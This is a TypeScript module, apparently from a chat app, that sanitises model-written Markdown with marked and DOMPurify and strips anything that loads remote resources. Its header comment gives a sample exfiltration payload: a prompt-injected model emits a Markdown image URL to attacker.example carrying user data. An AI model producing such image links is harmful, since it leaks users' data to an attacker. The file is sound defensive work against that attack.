/**
 * Markdown to sanitised HTML. Model output is untrusted: scripts, handlers and odd URLs are removed, and
 * nothing in it loads on its own. A remote image is an exfiltration channel (a prompt-injected model
 * writes `![](https://attacker.example/?q=<your data>)` and the browser sends it), so Markdown images
 * become plain links the reader may choose to follow, and raw HTML that would fetch something (img,
 * picture, video, audio, srcset, poster, background) is dropped. data: images are dropped too: they
 * cannot leak, but they are a way to show convincing fake UI. The web chat's CSP (`img-src 'self'`)
 * is the second line: whatever slipped past here is still not loaded.
 */

import DOMPurify from "dompurify";
import { Marked, type Tokens } from "marked";

const REMOTE = /^https?:\/\//i;

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

const marked = new Marked({
  gfm: true,
  breaks: true,
  async: false,
  renderer: {
    image({ href, text }: Tokens.Image): string {
      const label = escapeHtml(text.trim() || "image");
      if (!REMOTE.test(href)) return label;
      return `<a href="${escapeHtml(href)}" data-md-image="">Image: ${label}</a>`;
    },
  },
});

// Tags and attributes that make the browser fetch something by themselves (before any click).
const LOADING_TAGS = ["img", "picture", "source", "video", "audio", "track", "image", "object", "embed", "link"];
const LOADING_ATTRS = ["src", "srcset", "poster", "background", "ping", "lowsrc", "dynsrc", "xlink:href"];

let hooked = false;
function hook(): void {
  if (hooked) return;
  hooked = true;
  // Links open in a new tab without giving the page a handle on ours.
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A") {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer nofollow");
    }
  });
}

export function renderMarkdown(text: string): string {
  hook();
  const html = marked.parse(text) as string;
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe", ...LOADING_TAGS],
    FORBID_ATTR: ["style", "action", "formaction", ...LOADING_ATTRS],
  });
}
